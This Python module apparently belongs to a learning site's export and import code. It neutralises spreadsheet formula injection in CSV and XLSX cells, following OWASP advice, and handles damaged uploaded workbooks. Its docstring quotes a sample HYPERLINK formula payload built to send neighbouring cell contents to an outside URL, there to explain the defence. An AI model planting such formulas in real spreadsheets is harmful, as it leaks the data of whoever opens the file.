"""Cells for the CSV and XLSX files the site hands out, safe to open in Excel or LibreOffice.

Names, titles and question texts are typed by anyone who signs up or edits. A cell that
begins with "=", "+", "-" or "@" (or a tab or carriage return before one) is run as a
formula by spreadsheet programs, so a learner called `=HYPERLINK("http://…?d="&A2,"Xem")`
would become a live link that sends the neighbouring cells away. Following OWASP's advice
on CSV injection, such text gets a leading "'", which shows the text as typed and is never
evaluated. Numbers, dates and Decimals are left as they are, so totals stay numbers.

In workbooks every text cell is also written as text (openpyxl's data type "s"): openpyxl
would otherwise store any string beginning with "=" as a formula, and "#N/A" as an error.

Reading uploaded workbooks: openpyxl's read-only mode parses a sheet only as its rows are
read, so a damaged sheet fails in the middle of the loop, not when the file is opened;
`read_rows` turns that into one exception the importers answer with a message.

Imports no project app: every export and import may use it.
"""

import csv
import datetime
import zipfile
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.utils.exceptions import InvalidFileException

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_KEPT_TYPES = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def neutralise(value):
    """The value to write in a cell: numbers, dates and None unchanged, anything else as
    text, with a "'" in front when a spreadsheet would read it as a formula."""
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = str(value)  # model instances, lazy translations
    if text.startswith(FORMULA_TRIGGERS):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """Undo `neutralise` on a cell read back from one of our own files (an exported
    question bank imported again), so a round trip does not add a quote each time."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


class _Writer:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _Writer:
    """`csv.writer(stream, **options)` whose rows are neutralised cell by cell."""
    return _Writer(csv.writer(stream, **options))


PERCENT_FORMAT = "0%"


def cell(sheet, value, *, font=None, fill=None, alignment=None) -> Cell:
    """One cell of `sheet` (normal or write-only workbook) holding `value`: text as text,
    never as a formula; numbers and dates as themselves; a percentage (any value with a
    `fraction`, such as common.figures.Percent) as that number with a % format."""
    fraction = getattr(value, "fraction", None)
    if fraction is not None:
        result = Cell(sheet, row=1, column=1, value=fraction)
        result.number_format = PERCENT_FORMAT
        for name, style in (("font", font), ("fill", fill), ("alignment", alignment)):
            if style is not None:
                setattr(result, name, style)
        return result
    value = neutralise(value)
    if isinstance(value, str):
        # openpyxl refuses control characters (a pasted name may hold one): drop them
        # rather than fail the whole export.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    result = Cell(sheet, row=1, column=1, value=value)  # placed by append
    if isinstance(value, str):
        result.data_type = "s"
    if font is not None:
        result.font = font
    if fill is not None:
        result.fill = fill
    if alignment is not None:
        result.alignment = alignment
    return result


def row(sheet, values) -> list:
    """The cells to `sheet.append(...)`; Cell objects already made (styled) pass as they are."""
    return [value if isinstance(value, Cell) else cell(sheet, value) for value in values]


def append(sheet, values) -> None:
    """`sheet.append(values)`, every value through `cell`."""
    sheet.append(row(sheet, values))


# What openpyxl (with lxml or the standard library's parser, both SyntaxError subclasses)
# raises on a damaged part of a workbook: broken XML, a wrong number or cell reference.
READ_ERRORS = (
    InvalidFileException,
    zipfile.BadZipFile,
    SyntaxError,
    KeyError,
    IndexError,
    TypeError,
    ValueError,
    ArithmeticError,
    OSError,
)


class UnreadableWorkbook(Exception):
    pass


def read_rows(sheet, **options):
    """`sheet.iter_rows(values_only=True, **options)`, raising UnreadableWorkbook when the
    sheet turns out to be damaged on the way."""
    rows = sheet.iter_rows(values_only=True, **options)
    while True:
        try:
            values = next(rows)
        except StopIteration:
            return
        except READ_ERRORS as error:
            raise UnreadableWorkbook(str(error)) from error
        yield values
